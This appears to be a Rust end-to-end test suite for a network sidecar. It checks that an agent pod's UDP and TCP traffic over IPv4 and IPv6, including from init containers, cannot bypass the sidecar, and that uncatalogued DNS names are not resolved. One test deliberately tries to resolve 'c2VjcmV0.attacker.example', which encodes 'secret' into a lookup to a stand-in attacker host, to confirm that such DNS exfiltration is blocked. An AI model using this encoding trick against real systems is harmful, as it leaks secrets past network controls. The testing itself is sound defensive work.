//! Nothing of an opted-in pod leaves past its sidecar.

use serde_json::{Value, json};
use writ_e2e::{Pod, Stage, agent_pod, peer_pod, play};

const ECHO: u16 = 443;

/// Starts a server that answers over UDP and TCP in both families, and returns its addresses.
async fn start_echo(stage: &Stage) -> (Pod, String, String) {
    let mut pod = peer_pod("echo", &["/peer/udp_echo.py", &ECHO.to_string()]);
    pod["spec"]["containers"][0]["securityContext"] =
        json!({"runAsUser": 0, "capabilities": {"add": ["NET_BIND_SERVICE"]}});
    let echo = stage.create(&stage.outside, pod).await;
    let v4 = echo.ready().await;
    let v6 = echo.ipv6().await;
    (echo, v4, v6)
}

fn attempts(v4: &str, v6: &str) -> Value {
    json!([
        {"name": "udp v4", "do": "datagram", "address": v4, "port": ECHO},
        {"name": "udp v6", "do": "datagram", "address": v6, "port": ECHO, "family": "v6"},
        {"name": "tcp v4", "do": "connect", "address": v4, "port": ECHO},
        {"name": "tcp v6", "do": "connect", "address": v6, "port": ECHO, "family": "v6"},
    ])
}

#[test]
fn neither_quic_nor_ipv6_is_a_way_out() {
    play("wayout", async |stage| {
        let (echo, v4, v6) = start_echo(stage).await;
        let free = agent_pod("free", &attempts(&v4, &v6));
        let free = stage.create(&stage.outside, free).await;
        for step in ["udp v4", "udp v6", "tcp v4", "tcp v6"] {
            let seen = free.result(step).await.to_string();
            assert!(
                seen.contains("answered") && !seen.contains("error"),
                "{step}: {seen}"
            );
        }
        let reached = echo.said().await.len();

        stage.start_tool().await;
        let agent = stage.start_agent(attempts(&v4, &v6)).await;
        for step in ["udp v4", "udp v6", "tcp v4", "tcp v6"] {
            let seen = agent.result(step).await;
            let received = seen["received"].as_str().unwrap_or_default();
            assert!(!received.contains("answered"), "{step}: {seen}");
        }
        assert_eq!(
            echo.said().await.len(),
            reached,
            "nothing more reached the server"
        );
    });
}

#[test]
fn an_init_container_is_captured_like_any_other() {
    play("init", async |stage| {
        let (echo, v4, v6) = start_echo(stage).await;
        stage.start_tool().await;
        let mut steps = attempts(&v4, &v6);
        let allowed = json!({"name": "allowed", "do": "request",
            "url": stage.payments("/v1/accounts/A-1/balance"), "until": {"status": 200}});
        steps.as_array_mut().unwrap().push(allowed);
        let mut pod = agent_pod("agent", &json!([]));
        let mut init = pod["spec"]["containers"][0].clone();
        init["name"] = json!("before");
        init["args"] = json!(["/peer/agent.py", steps.to_string()]);
        pod["spec"]["initContainers"] = json!([init]);
        let agent = stage.create(&stage.agents, pod).await;
        assert_eq!(
            agent.containers(),
            ["writ-init", "writ-sidecar", "before", "peer"]
        );

        for step in ["udp v4", "udp v6", "tcp v4", "tcp v6"] {
            let seen = agent.result_of("before", step).await;
            let received = seen["received"].as_str().unwrap_or_default();
            assert!(!received.contains("answered"), "{step}: {seen}");
        }
        // It is decided like any other, too.
        assert_eq!(agent.result_of("before", "allowed").await["status"], 200);
        assert_eq!(echo.said().await, Vec::<Value>::new());
    });
}

#[test]
fn names_that_the_catalog_does_not_lead_to_are_not_resolved() {
    play("names", async |stage| {
        let steps = json!([
            {"name": "known", "do": "resolve", "host": stage.payments("").trim_start_matches("http://")},
            {"name": "secret", "do": "resolve", "host": "c2VjcmV0.attacker.example"},
            {"name": "api", "do": "resolve", "host": "kubernetes.default.svc.cluster.local"},
        ]);
        let agent = stage.start_agent(steps).await;
        let known = agent.result("known").await;
        assert_eq!(
            known["addresses"].as_array().map(Vec::len),
            Some(1),
            "{known}"
        );
        for step in ["secret", "api"] {
            assert_eq!(agent.result(step).await["addresses"], json!([]), "{step}");
        }
    });
}
